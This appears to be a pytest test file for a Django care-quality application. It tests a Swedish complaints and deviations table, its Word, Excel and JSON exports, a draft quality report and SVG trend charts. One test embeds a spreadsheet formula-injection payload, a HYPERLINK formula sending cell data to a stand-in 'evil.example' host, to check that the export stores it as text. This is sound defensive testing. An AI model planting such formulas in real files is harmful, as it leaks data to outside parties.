"""The VB table page (with its drill-down and the editable assessments), its DOCX/XLSX/JSON exports, the
draft kvalitetsberättelse and the trend charts: each four ways (anonymous, no permission, permission, another
unit's manager), the figures against the hand-counted year of test_vb_table, the documents opened and read
back, the assessment conflict, bad input (never a 5xx) and the query budgets. Plus the pure SVG charts."""

import io
import json
import re
from typing import Any

import openpyxl
import pytest
from django.test import Client as HttpClient
from django.urls import reverse
from docx import Document

from bista.core import charts
from bista.core.models import AuditEvent
from bista.core.permissions import RoleCode
from bista.core.testing import Organisation, make_user
from bista.core.tests.pages import LOGIN, browser
from bista.quality import services, vbdocs
from bista.quality.models import VbAssessment
from bista.quality.tests.test_vb_table import DOMAIN_TABLE, EXPECTED, YEAR, Year, build_year, local, report_deviation

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("no_two_factor")]

TABLE = reverse("quality:vb_table")
ASSESS = reverse("quality:vb_assessment")
TRENDS = reverse("quality:trends")
REPORT = reverse("quality:quality_report")


def export(fmt: str) -> str:
    return reverse("quality:vb_table_export", args=[fmt])


@pytest.fixture
def year(org: Organisation, manager: Any, other_manager: Any) -> Year:
    return build_year(org, manager, other_manager)


@pytest.fixture
def controller(org: Organisation) -> Any:
    """Controller of the district: quality.view, but neither quality.manage nor quality.incident."""
    return make_user("controller", RoleCode.CONTROLLER, district=org.district)


def body(response: Any) -> str:
    return response.content.decode()


def query(org: Organisation, **extra: Any) -> dict[str, Any]:
    return {"enhet": org.provider.pk, "ar": YEAR, **extra}


def assessment_data(org: Organisation, key: str = "praise", text: str = "Bra jobbat.", version: int = 0) -> dict:
    return {"enhet": org.provider.pk, "ar": YEAR, "rad": key, "version": version, "text": text}


def state() -> dict[str, Any]:
    return {
        "assessments": sorted(VbAssessment.objects.values_list("unit_id", "year", "row_key", "text", "version")),
        "audit": AuditEvent.objects.count(),
    }


def cell_figures(html: str, key: str) -> list[int]:
    """The four figures of one row of the table page (by the row's anchor)."""
    anchor = "rad-" + key.replace(".", "-")
    row = re.search(rf'<tr id="{re.escape(anchor)}">(.*?)</tr>', html, re.S)
    assert row, key
    cells = re.findall(r'<td class="num"[^>]*>(?:<a [^>]*>)?(\d+)', row.group(1))
    return [int(value) for value in cells]


GET_PAGES = [
    ("table", lambda org: (TABLE, query(org))),
    ("drilldown", lambda org: (TABLE, query(org, rad="deviation.bemotande", tertial=1))),
    ("trends", lambda org: (TRENDS, {"enhet": org.provider.pk})),
    ("docx", lambda org: (export("docx"), query(org))),
    ("xlsx", lambda org: (export("xlsx"), query(org))),
    ("json", lambda org: (export("json"), query(org))),
    ("report", lambda org: (REPORT, query(org))),
]


# --- Anonymous --------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "page"), GET_PAGES)
def test_anonymous_goes_to_login(org: Organisation, year: Year, name: str, page: Any) -> None:
    path, params = page(org)
    response = HttpClient().get(path, params)
    assert response.status_code == 302
    assert response["Location"].startswith(f"{LOGIN}?next=")
    assert "Avvikelse" not in body(response)


def test_anonymous_post_changes_nothing(org: Organisation, year: Year) -> None:
    before = state()
    response = HttpClient().post(ASSESS, assessment_data(org))
    assert response.status_code == 302
    assert response["Location"].startswith(LOGIN)
    assert state() == before


# --- Without permission ---------------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["nobody", "staffer"])
@pytest.mark.parametrize(("name", "page"), GET_PAGES)
def test_without_quality_view_every_page_is_forbidden(
    org: Organisation, year: Year, request: Any, who: str, name: str, page: Any
) -> None:
    path, params = page(org)
    response = browser(request.getfixturevalue(who)).get(path, params)
    assert response.status_code == 403
    assert f"Avvikelse {year.deviations['apr30'].pk}" not in body(response)


@pytest.mark.parametrize("who", ["nobody", "staffer", "controller"])
def test_without_quality_manage_the_assessment_is_refused(
    org: Organisation, year: Year, request: Any, who: str
) -> None:
    client = browser(request.getfixturevalue(who))
    before = state()
    response = client.post(ASSESS, assessment_data(org))
    assert response.status_code == 403
    assert state() == before


# --- With permission: the table ------------------------------------------------------------------------


def test_the_table_shows_the_hand_counted_figures(org: Organisation, year: Year, manager: Any) -> None:
    response = browser(manager).get(TABLE, query(org))
    assert response.status_code == 200
    html = body(response)
    for group, labels in DOMAIN_TABLE:
        assert group in html
        for label in labels:
            assert label in html
    for column in ("Utfall T1", "Utfall T2", "Utfall VB (T3)", "Totalt ack", "Bedömning och planerade åtgärder"):
        assert column in html
    for key, values in EXPECTED.items():
        assert cell_figures(html, key) == values, key
    assert cell_figures(html, "deviation.rattssakerhet") == [0, 0, 0, 0]


def test_each_figure_links_to_its_events(org: Organisation, year: Year, manager: Any) -> None:
    html = body(browser(manager).get(TABLE, query(org)))
    link = f"{TABLE}?enhet={org.provider.pk}&amp;ar={YEAR}&amp;rad=deviation.bemotande&amp;tertial=1"
    assert link in html
    total = f'{TABLE}?enhet={org.provider.pk}&amp;ar={YEAR}&amp;rad=deviation.bemotande"'
    assert total in html
    assert "rad=deviation.rattssakerhet" not in html  # a zero has nothing behind it


def test_the_notice_of_unclassified_events(org: Organisation, year: Year, manager: Any) -> None:
    html = body(browser(manager).get(TABLE, query(org)))
    assert ">1 avvikelse</a>" in html
    assert "1 synpunkt eller klagomål" in html
    assert f"rad={vbdocs.DEVIATION_UNCLASSIFIED}" in html
    html = body(browser(manager).get(TABLE, query(org, ar=YEAR - 2)))
    assert "inte klassificerade" not in html


def test_the_table_defaults_to_the_first_unit_and_this_year(org: Organisation, manager: Any) -> None:
    response = browser(manager).get(TABLE)
    assert response.status_code == 200
    assert response.context["unit"] == org.provider
    assert response.context["year"] >= 2026


def test_the_year_may_be_given_as_year(org: Organisation, year: Year, manager: Any) -> None:
    response = browser(manager).get(TABLE, {"enhet": org.provider.pk, "year": YEAR})
    assert response.context["year"] == YEAR


def test_the_drill_down_lists_the_events_with_links(org: Organisation, year: Year, manager: Any) -> None:
    response = browser(manager).get(TABLE, query(org, rad="deviation.bemotande", tertial=1))
    assert response.status_code == 200
    html = body(response)
    apr30, sep1 = year.deviations["apr30"], year.deviations["sep1"]
    assert reverse("quality:deviation_detail", args=[apr30.pk]) in html
    assert reverse("quality:deviation_detail", args=[sep1.pk]) not in html
    assert "Bemötande" in html
    whole = body(browser(manager).get(TABLE, query(org, rad="deviation.bemotande")))
    assert reverse("quality:deviation_detail", args=[sep1.pk]) in whole
    assert reverse("quality:deviation_detail", args=[year.other_unit_deviation.pk]) not in whole


@pytest.mark.parametrize(
    ("key", "url_name", "kind", "name"),
    [
        ("lex_sarah.reports", "quality:lex_sarah_detail", "reports", "serious"),
        ("follow_up.action", "quality:feedback_detail", "feedback", "complaint"),
        ("incident", "quality:incident_detail", "incidents", "sep1"),
    ],
)
def test_the_drill_down_links_each_kind_of_record(
    org: Organisation, year: Year, manager: Any, key: str, url_name: str, kind: str, name: str
) -> None:
    record = getattr(year, kind)[name]
    html = body(browser(manager).get(TABLE, query(org, rad=key)))
    assert reverse(url_name, args=[record.pk]) in html


def test_the_drill_down_says_what_the_reader_may_not_see(org: Organisation, year: Year, controller: Any) -> None:
    response = browser(controller).get(TABLE, query(org, rad="incident"))
    assert response.status_code == 200
    html = body(response)
    assert "Ytterligare 2 händelser" in html
    assert reverse("quality:incident_detail", args=[year.incidents["sep1"].pk]) not in html


@pytest.mark.parametrize(
    ("params", "status"),
    [
        ({"rad": "nonsense"}, 404),
        ({"rad": "incident", "tertial": "4"}, 404),
        ({"rad": "incident", "tertial": "x"}, 404),
        ({"ar": "1999"}, 400),
        ({"ar": "tjugo"}, 400),
        ({"ar": "9" * 30}, 400),
        ({"enhet": "abc"}, 400),
        ({"enhet": "9" * 30}, 400),
    ],
)
def test_bad_input_is_a_clear_4xx(org: Organisation, year: Year, manager: Any, params: dict, status: int) -> None:
    response = browser(manager).get(TABLE, query(org, **params))
    assert response.status_code == status


def test_a_bad_year_names_the_field(org: Organisation, manager: Any) -> None:
    html = body(browser(manager).get(TABLE, query(org, ar="1999")))
    assert "År:" in html


# --- Another unit's manager --------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "page"), GET_PAGES)
def test_another_units_manager_is_refused_the_unit(
    org: Organisation, year: Year, other_manager: Any, name: str, page: Any
) -> None:
    path, params = page(org)
    response = browser(other_manager).get(path, params)
    assert response.status_code == 403
    assert f"Avvikelse {year.deviations['apr30'].pk}" not in body(response)


def test_another_units_manager_sees_only_their_own_unit(org: Organisation, year: Year, other_manager: Any) -> None:
    response = browser(other_manager).get(TABLE, {"ar": YEAR})
    assert response.status_code == 200
    assert response.context["unit"] == org.other_unit
    html = body(response)
    assert cell_figures(html, "deviation.bemotande") == [1, 0, 0, 1]
    assert cell_figures(html, "incident") == [0, 0, 0, 0]
    assert [choice for choice, _ in response.context["form"].fields["enhet"].choices] == [org.other_unit.pk]
    drill = body(browser(other_manager).get(TABLE, {"ar": YEAR, "rad": "deviation.bemotande"}))
    assert reverse("quality:deviation_detail", args=[year.other_unit_deviation.pk]) in drill
    assert reverse("quality:deviation_detail", args=[year.deviations["apr30"].pk]) not in drill


def test_another_units_manager_cannot_write_the_assessment(
    org: Organisation, year: Year, manager: Any, other_manager: Any
) -> None:
    services.vb_assessment_save(
        actor=manager, unit=org.provider, year=YEAR, row_key="praise", text="Original", expected_version=0
    )
    client = browser(other_manager)
    before = state()
    response = client.post(ASSESS, assessment_data(org, text="Intrång", version=1))
    assert response.status_code == 403
    assert state() == before
    assert "Original" not in body(response)


# --- The assessment ---------------------------------------------------------------------------------------


def test_the_manager_writes_an_assessment(org: Organisation, year: Year, manager: Any) -> None:
    page = body(browser(manager).get(TABLE, query(org, bedom="praise")))
    assert 'name="text"' in page
    assert 'for="id_rad-praise_text"' in page
    response = browser(manager).post(ASSESS, assessment_data(org, text="  Berömmet gällde bemötandet.  "))
    assert response.status_code == 302
    assert response["Location"] == f"{TABLE}?enhet={org.provider.pk}&ar={YEAR}#rad-praise"
    saved = VbAssessment.objects.get(unit=org.provider, year=YEAR, row_key="praise")
    assert (saved.text, saved.version, saved.updated_by) == ("Berömmet gällde bemötandet.", 1, manager)
    html = body(browser(manager).get(TABLE, query(org)))
    assert "Berömmet gällde bemötandet." in html
    response = browser(manager).post(ASSESS, assessment_data(org, text="Andra versionen.", version=1))
    assert response.status_code == 302
    saved.refresh_from_db()
    assert (saved.text, saved.version) == ("Andra versionen.", 2)


def test_a_stale_assessment_is_a_conflict_and_the_input_is_kept(org: Organisation, year: Year, manager: Any) -> None:
    deputy = make_user("bitr", RoleCode.DEPUTY_MANAGER, org.provider)
    # Both open the empty row (version 0); the deputy saves first.
    assert browser(deputy).post(ASSESS, assessment_data(org, text="Ställföreträdarens text")).status_code == 302
    client = browser(manager)
    before = state()
    response = client.post(ASSESS, assessment_data(org, text="Chefens text"))
    assert response.status_code == 200
    html = body(response)
    assert "Någon annan har ändrat uppgifterna" in html
    assert "Chefens text" in html  # the user's input is kept in the form
    assert "Ställföreträdarens text" in html  # and the saved text is shown
    assert 'name="version" value="1"' in html  # a second save overwrites knowingly
    assert state() == before
    again = browser(manager).post(ASSESS, assessment_data(org, text="Chefens text", version=1))
    assert again.status_code == 302
    assert VbAssessment.objects.get(row_key="praise").text == "Chefens text"


def test_a_first_save_over_an_existing_row_is_a_conflict(org: Organisation, year: Year, manager: Any) -> None:
    services.vb_assessment_save(
        actor=manager, unit=org.provider, year=YEAR, row_key="incident", text="Finns", expected_version=0
    )
    response = browser(manager).post(ASSESS, assessment_data(org, key="incident", text="Ny", version=0))
    assert "Någon annan har ändrat uppgifterna" in body(response)
    assert VbAssessment.objects.get(row_key="incident").text == "Finns"


@pytest.mark.parametrize(
    "changes",
    [{"rad": "nonsense"}, {"version": "-1"}, {"version": "x"}, {"ar": "1999"}, {"enhet": "abc"}, {"rad": ""}],
)
def test_a_tampered_assessment_is_a_400(org: Organisation, year: Year, manager: Any, changes: dict) -> None:
    client = browser(manager)
    before = state()
    response = client.post(ASSESS, {**assessment_data(org), **changes})
    assert response.status_code == 400
    assert state() == before


def test_a_too_long_assessment_names_the_field(org: Organisation, year: Year, manager: Any) -> None:
    response = browser(manager).post(ASSESS, assessment_data(org, text="x" * 5000))
    assert response.status_code == 400
    assert "Bedömning och planerade åtgärder: Beröm" in body(response)
    assert not VbAssessment.objects.exists()


def test_the_assessment_page_refuses_get(manager: Any) -> None:
    assert browser(manager).get(ASSESS).status_code == 405


def test_a_controller_sees_the_table_but_no_edit_links(org: Organisation, year: Year, controller: Any) -> None:
    response = browser(controller).get(TABLE, query(org, bedom="praise"))
    assert response.status_code == 200
    html = body(response)
    assert cell_figures(html, "incident") == [0, 1, 1, 2]
    assert "Skriv bedömning" not in html
    assert 'name="text"' not in html


# --- Exports -----------------------------------------------------------------------------------------------


def saved_assessment(org: Organisation, manager: Any) -> None:
    services.vb_assessment_save(
        actor=manager,
        unit=org.provider,
        year=YEAR,
        row_key="identified.staff",
        text="Slarv i rutinerna; checklista införd.",
        expected_version=0,
    )


def test_json_export(org: Organisation, year: Year, manager: Any) -> None:
    saved_assessment(org, manager)
    response = browser(manager).get(export("json"), query(org))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"] == f'attachment; filename="vb-tabell-{org.provider.pk}-{YEAR}.json"'
    data = json.loads(response.content)
    assert {"unit", "year", "columns", "groups"} <= set(data)
    assert data["unit"] == org.provider.name
    assert data["year"] == YEAR
    assert data["columns"] == [
        "Utfall T1",
        "Utfall T2",
        "Utfall VB (T3)",
        "Totalt ack",
        "Bedömning och planerade åtgärder",
    ]
    assert [(g["group"], [r["label"] for r in g["rows"]]) for g in data["groups"]] == DOMAIN_TABLE
    for group in data["groups"]:
        assert set(group) == {"group", "rows"}
        for row in group["rows"]:
            assert set(row) == {"key", "label", "t1", "t2", "t3", "total", "assessment"}
            assert [row["t1"], row["t2"], row["t3"], row["total"]] == EXPECTED.get(row["key"], [0, 0, 0, 0])
    rows = {row["key"]: row for group in data["groups"] for row in group["rows"]}
    assert rows["identified.staff"]["assessment"] == "Slarv i rutinerna; checklista införd."


def expected_rows() -> list[list[str]]:
    """The table as text rows: a group header, then its rows (label, four figures)."""
    rows = []
    for group, labels in DOMAIN_TABLE:
        rows.append([group])
        rows.extend([[label] for label in labels])
    return rows


def test_docx_export(org: Organisation, year: Year, manager: Any) -> None:
    saved_assessment(org, manager)
    response = browser(manager).get(export("docx"), query(org))
    assert response.status_code == 200
    assert response["Content-Type"] == vbdocs_content("docx")
    assert response["Content-Disposition"].startswith("attachment;")
    document = Document(io.BytesIO(response.content))
    text = "\n".join(p.text for p in document.paragraphs)
    assert "Redovisning av synpunkter och klagomål" in text
    assert f"{org.provider.name}, {YEAR}" in text
    assert "1 avvikelse och 1 synpunkt eller klagomål är ännu inte klassificerade" in text
    (table,) = document.tables
    header = [cell.text for cell in table.rows[0].cells]
    assert header == [
        "Klagomål/synpunkter/kategorier",
        "Utfall T1",
        "Utfall T2",
        "Utfall VB (T3)",
        "Totalt ack",
        "Bedömning och planerade åtgärder",
    ]
    check_rows([[cell.text for cell in row.cells] for row in table.rows[1:]])


def check_rows(rows: list[list[Any]], assessment: str = "Slarv i rutinerna; checklista införd.") -> None:
    """Group rows hold the group's name (a merged row repeats it); data rows the label, the four figures and
    the assessment, in the layout's order."""
    keys = iter(keys_in_order())
    index = 0
    for group, labels in DOMAIN_TABLE:
        assert rows[index][0] == group
        assert all(value in (group, None, "") for value in rows[index][1:])
        index += 1
        for label in labels:
            row, key = rows[index], next(keys)
            assert row[0] == label
            assert [int(v) for v in row[1:5]] == EXPECTED.get(key, [0, 0, 0, 0]), key
            expected_text = assessment if key == "identified.staff" else ""
            assert (row[5] or "") == expected_text
            index += 1
    assert index == len(rows)
    assert next(keys, None) is None


def keys_in_order() -> list[str]:
    from bista.quality import rules, selectors

    return [
        row.key for row in rules.vb_layout([rules.CategoryRef(c.group, c.code, c.name) for c in selectors.categories()])
    ]


def vbdocs_content(fmt: str) -> str:
    from bista.quality.views.vb import EXPORTS

    return EXPORTS[fmt]


def test_xlsx_export_holds_no_formula(org: Organisation, year: Year, manager: Any) -> None:
    """Formula injection: a user's text that looks like a formula is text in the file, shown as written."""
    import zipfile

    injected = '=HYPERLINK("https://evil.example/?d="&A2,"Klicka här")'
    for key, text in (("identified.staff", injected), ("praise", "@SUM(1+1)\x0b och -2+3")):
        services.vb_assessment_save(
            actor=manager, unit=org.provider, year=YEAR, row_key=key, text=text, expected_version=0
        )
    response = browser(manager).get(export("xlsx"), query(org))
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets
    assert not any(re.search(rb"<f[ >]", archive.read(name)) for name in sheets)  # no formula element at all
    cells = [cell for row in openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert injected in texts
    assert "@SUM(1+1) och -2+3" in texts  # the control character XLSX cannot hold is dropped, not a 500
    assert all(cell.quotePrefix for cell in cells if cell.value in (injected, "@SUM(1+1) och -2+3"))


def test_xlsx_export(org: Organisation, year: Year, manager: Any) -> None:
    saved_assessment(org, manager)
    response = browser(manager).get(export("xlsx"), query(org))
    assert response.status_code == 200
    assert response["Content-Type"] == vbdocs_content("xlsx")
    assert response["Content-Disposition"] == f'attachment; filename="vb-tabell-{org.provider.pk}-{YEAR}.xlsx"'
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet["A1"].value == "Redovisning av synpunkter och klagomål"
    assert (sheet["B2"].value, sheet["B3"].value) == (org.provider.name, YEAR)
    assert [c.value for c in sheet[5]] == [
        "Klagomål/synpunkter/kategorier",
        "Utfall T1",
        "Utfall T2",
        "Utfall VB (T3)",
        "Totalt ack",
        "Bedömning och planerade åtgärder",
    ]
    last = 5 + len(expected_rows())
    rows = [[c.value for c in sheet[number]] for number in range(6, last + 1)]
    check_rows(rows)
    assert all(isinstance(row[1], int) for row in rows if row[1] is not None)
    assert sheet.cell(row=last + 2, column=1).value.startswith("Observera: 1 avvikelse och")


def test_an_unknown_format_is_a_404(org: Organisation, manager: Any) -> None:
    assert browser(manager).get(export("pdf"), query(org)).status_code == 404
    assert browser(manager).get(export("csv")).status_code == 404


def test_an_export_with_a_bad_year_is_a_400(org: Organisation, manager: Any) -> None:
    assert browser(manager).get(export("json"), query(org, ar="abc")).status_code == 400


# --- The quality report ------------------------------------------------------------------------------------

SECTIONS = [
    "Inledning",
    "Övergripande mål och strategier",
    "Organisatoriskt ansvar",
    "Samverkan",
    "Egenkontroller",
    "Riskanalys",
    "Avvikelser",
    "Lex Sarah",
    "Synpunkter och klagomål",
    "Personuppgiftsincidenter",
    "Åtgärder för att säkra kvaliteten",
    "Mål och strategier för kommande år",
    "Redovisning av synpunkter och klagomål",
]


def report(user: Any, org: Organisation, **params: Any) -> Any:
    response = browser(user).get(REPORT, {"enhet": org.provider.pk, **params})
    assert response.status_code == 200, body(response)
    assert response["Content-Disposition"].startswith("attachment;")
    return Document(io.BytesIO(response.content))


def test_the_quality_report_has_the_sections_as_word_headings(org: Organisation, year: Year, manager: Any) -> None:
    document = report(manager, org, year=YEAR)
    headings = [p.text for p in document.paragraphs if p.style.name == "Heading 1"]
    assert headings == SECTIONS
    assert document.paragraphs[0].text == f"Kvalitetsberättelse {YEAR}"
    assert "w:fldSimple" in document.element.xml  # a table of contents over the headings
    assert "TOC \\o" in document.element.xml


def test_the_quality_report_counts_the_years_records(org: Organisation, year: Year, manager: Any) -> None:
    document = report(manager, org, ar=YEAR)
    text = "\n".join(p.text for p in document.paragraphs)
    assert f"Under {YEAR} rapporterades 5 avvikelser." in text
    assert "Bemötande: Rutinen för överlämning var okänd." in text  # the analysis' first line only
    assert "Mer text." not in text
    assert f"Under {YEAR} inkom 2 lex Sarah-rapporter. 1 bedömdes som allvarliga och 2 anmälningar" in text
    assert "Återkoppling har lämnats på 1 och åtgärder har vidtagits för 1" in text
    assert f"Under {YEAR} registrerades 2 personuppgiftsincidenter, varav 0 anmäldes till IMY." in text
    assert "identifierades 1 avvikelse av en extern samverkanspart och 1 avvikelse avsåg en annan verksamhet" in text
    tables = {t.rows[0].cells[0].text: t for t in document.tables}
    deviation_table = next(t for t in document.tables if t.rows[0].cells[0].text == "Kategori")
    by_category = {row.cells[0].text: row.cells[1].text for row in deviation_table.rows[1:]}
    assert by_category["Bemötande"] == "2"
    assert by_category["Ej klassificerad"] == "1"
    by_kind = {row.cells[0].text: row.cells[1].text for row in tables["Typ"].rows[1:]}
    assert by_kind == {"Synpunkt": "1", "Klagomål": "2", "Beröm": "1"}
    by_source = {row.cells[0].text: row.cells[1].text for row in tables["Från"].rows[1:]}
    assert by_source["Brukare/patient"] == "1"
    assert by_source["Anonym"] == "1"
    vb = tables["Klagomål/synpunkter/kategorier"]
    check_rows([[cell.text for cell in row.cells] for row in vb.rows[1:]], assessment="")


def test_the_quality_report_defaults_to_the_previous_year(org: Organisation, manager: Any) -> None:
    document = report(manager, org)
    assert document.paragraphs[0].text.startswith("Kvalitetsberättelse 2025") or document.paragraphs[0].text.startswith(
        "Kvalitetsberättelse"
    )
    from django.utils import timezone

    assert document.paragraphs[0].text == f"Kvalitetsberättelse {timezone.localdate().year - 1}"


def test_the_quality_report_leaves_out_the_incident_decisions_for_a_controller(
    org: Organisation, year: Year, controller: Any
) -> None:
    text = "\n".join(p.text for p in report(controller, org, ar=YEAR).paragraphs)
    assert "registrerades 2 personuppgiftsincidenter (uppgift om anmälan" in text


# --- Trends ------------------------------------------------------------------------------------------------


def test_the_trends_page_draws_accessible_charts(org: Organisation, year: Year, manager: Any) -> None:
    response = browser(manager).get(TRENDS, {"enhet": org.provider.pk})
    assert response.status_code == 200
    html = body(response)
    assert len(re.findall(r'<svg xmlns="http://www.w3.org/2000/svg" role="(img|figure)"', html)) == 3
    for chart_id in ("trend-avvikelser", "trend-synpunkter", "trend-lex-sarah"):
        assert f'aria-labelledby="{chart_id}-title {chart_id}-desc"' in html
        assert f'<title id="{chart_id}-title">' in html
    assert "style=" not in html
    assert "<script>" not in html
    assert "<caption>Avvikelser per kategori: siffrorna i diagrammet</caption>" in html
    # The bar of Bemötande in T1 of YEAR links to the drill-down, in the chart and in the table.
    link = f"{TABLE}?enhet={org.provider.pk}&amp;ar={YEAR}&amp;rad=deviation.bemotande&amp;tertial=1"
    assert html.count(f'href="{link}"') == 2
    lex_sarah = f"{TABLE}?enhet={org.provider.pk}&amp;ar={YEAR}&amp;rad=lex_sarah.reports&amp;tertial=2"
    assert html.count(f'href="{lex_sarah}"') == 2
    praise = f"{TABLE}?enhet={org.provider.pk}&amp;ar={YEAR}&amp;rad=feedback.kind.praise&amp;tertial=3"
    assert html.count(f'href="{praise}"') == 2
    unclassified = f"rad={vbdocs.DEVIATION_UNCLASSIFIED}"
    assert unclassified in html


def test_the_trends_table_holds_the_counts(org: Organisation, year: Year, manager: Any) -> None:
    response = browser(manager).get(TRENDS, {"enhet": org.provider.pk})
    deviations = response.context["charts"][0]
    rows = {row["label"]: row for row in deviations["rows"]}
    assert rows[f"{YEAR} T1"]["total"] == 1
    assert rows[f"{YEAR} T2"]["total"] == 2
    assert rows[f"{YEAR} T3"]["total"] == 2  # sep1 and the unclassified one
    assert rows[f"{YEAR - 1} T3"]["total"] == 1
    assert f"{YEAR - 2} T1" in rows  # five years
    assert all(not label.startswith(str(YEAR - 5)) for label in rows)


def test_the_trends_per_year(org: Organisation, year: Year, manager: Any) -> None:
    response = browser(manager).get(TRENDS, {"enhet": org.provider.pk, "indelning": "ar"})
    assert response.status_code == 200
    lex_sarah = response.context["charts"][2]
    rows = {row["label"]: row["total"] for row in lex_sarah["rows"]}
    assert rows[str(YEAR)] == 2
    assert rows[str(YEAR - 1)] == 1
    link = f"{TABLE}?enhet={org.provider.pk}&amp;ar={YEAR}&amp;rad=lex_sarah.reports&quot;"
    assert f'href="{TABLE}?enhet={org.provider.pk}&amp;ar={YEAR}&amp;rad=lex_sarah.reports"' in body(response)
    assert link not in body(response)


def test_the_trend_drill_down_for_a_year_lists_the_events(org: Organisation, year: Year, manager: Any) -> None:
    html = body(browser(manager).get(TABLE, {"enhet": org.provider.pk, "ar": YEAR, "rad": "lex_sarah.reports"}))
    assert reverse("quality:lex_sarah_detail", args=[year.reports["serious"].pk]) in html
    assert reverse("quality:lex_sarah_detail", args=[year.reports["minor"].pk]) in html
    assert reverse("quality:lex_sarah_detail", args=[year.reports["from_last_year"].pk]) not in html


def test_the_trends_refuse_a_bad_division(org: Organisation, manager: Any) -> None:
    assert browser(manager).get(TRENDS, {"enhet": org.provider.pk, "indelning": "vecka"}).status_code == 400


def test_the_trends_of_a_unit_without_events(org: Organisation, other_manager: Any) -> None:
    response = browser(other_manager).get(TRENDS)
    assert response.status_code == 200
    assert "Inga händelser under perioden." in body(response)


# --- Query budgets ------------------------------------------------------------------------------------------

# Session and user, the access map (2), the units, then the page's own reads (one per source, none per event).
TABLE_QUERIES = 14
DRILLDOWN_QUERIES = 15
TRENDS_QUERIES = 12
REPORT_QUERIES = 27


def more_events(org: Organisation, manager: Any, count: int) -> None:
    for number in range(count):
        report_deviation(manager, org.provider, local(YEAR, 1 + number % 12, 10), "bemotande")


@pytest.mark.parametrize(
    ("page", "budget"),
    [
        (lambda org: (TABLE, query(org)), TABLE_QUERIES),
        (lambda org: (TABLE, query(org, rad="deviation.bemotande")), DRILLDOWN_QUERIES),
        (lambda org: (TRENDS, {"enhet": org.provider.pk}), TRENDS_QUERIES),
        (lambda org: (REPORT, query(org)), REPORT_QUERIES),
    ],
)
def test_query_budget_does_not_grow_with_the_events(
    org: Organisation, year: Year, manager: Any, django_assert_max_num_queries: Any, page: Any, budget: int
) -> None:
    client = browser(manager)
    path, params = page(org)
    with django_assert_max_num_queries(budget):
        assert client.get(path, params).status_code == 200
    more_events(org, manager, 12)
    client = browser(manager)
    with django_assert_max_num_queries(budget):
        assert client.get(path, params).status_code == 200


# --- The charts (pure) -------------------------------------------------------------------------------------


def test_bar_chart_markup() -> None:
    svg = charts.bar_chart(
        chart_id="c",
        title="Avvikelser <per> kategori",
        description="Beskrivning",
        periods=["T1", "T2"],
        groups=["2024", "2024"],
        series=[charts.Series("A", [1, 0], ["/a?x=1&y=2", None]), charts.Series("B", [2, 3], [None, "/b"])],
    )
    assert svg.startswith('<svg xmlns="http://www.w3.org/2000/svg" role="figure" aria-labelledby="c-title c-desc"')
    assert '<title id="c-title">Avvikelser &lt;per&gt; kategori</title>' in svg
    assert '<a href="/a?x=1&amp;y=2" aria-label="A, T1 2024: 1">' in svg
    assert '<a href="/b" aria-label="B, T2 2024: 3">' in svg
    # three bar segments with a value, each with its text; the empty one drawn nowhere
    assert re.findall(r"<title>([^<]*)</title>", svg) == ["A, T1 2024: 1", "B, T1 2024: 2", "B, T2 2024: 3"]
    assert "style=" not in svg and "<style" not in svg  # the page's CSP allows neither
    assert svg.endswith("</svg>")


def test_line_chart_markup_and_empty_chart() -> None:
    svg = charts.line_chart(
        chart_id="l", title="Lex Sarah", description="d", periods=["2023", "2024"], series=[charts.Series("L", [0, 2])]
    )
    assert re.findall(r"<title>([^<]*)</title>", svg) == ["L, 2023: 0", "L, 2024: 2"]
    empty = charts.bar_chart(chart_id="e", title="t", description="d", periods=["T1"], series=[])
    assert "Inga händelser under perioden." in empty


def test_two_charts_on_a_page_share_no_id() -> None:
    first, second = (
        charts.line_chart(chart_id=name, title="t", description="d", periods=["T1"], series=[charts.Series("L", [1])])
        for name in ("a", "b")
    )
    ids = re.findall(r'id="([^"]+)"', first) + re.findall(r'id="([^"]+)"', second)
    assert len(ids) == len(set(ids))


def test_the_legend_wraps_and_the_chart_grows() -> None:
    def height(svg: str) -> float:
        return float(re.search(r'viewBox="0 0 [\d.]+ ([\d.]+)"', svg).group(1))

    short = charts.bar_chart(chart_id="s", title="t", description="d", periods=["T1"], series=[charts.Series("A", [1])])
    long = [charts.Series(f"En mycket lång kategori nummer {n}", [1]) for n in range(6)]
    svg = charts.bar_chart(chart_id="w", title="t", description="d", periods=["T1"], series=long)
    assert height(svg) > height(short)


@pytest.mark.parametrize("values", [[1, 3], [2, 5, 4], [40, 70]])
def test_the_y_axis_fits_the_counts(values: list[int]) -> None:
    """From 0, whole numbers, and not far above the largest count (never 0–100 for a handful)."""
    svg = charts.line_chart(
        chart_id="y",
        title="t",
        description="d",
        periods=[f"T{n}" for n in range(len(values))],
        series=[charts.Series("A", values)],
    )
    ticks = [int(t) for t in re.findall(r"<text[^>]*>(\d+)</text>", svg)]
    assert ticks[0] == 0 and ticks == sorted(ticks)
    assert max(values) <= ticks[-1] * 1.5 and ticks[-1] <= 2 * max(values)


def test_charts_refuse_inconsistent_data() -> None:
    with pytest.raises(ValueError):
        charts.bar_chart(chart_id="x", title="t", description="d", periods=["T1"], series=[charts.Series("A", [1, 2])])
    with pytest.raises(ValueError):
        charts.bar_chart(chart_id="x", title="t", description="d", periods=["T1"], series=[charts.Series("A", [-1])])
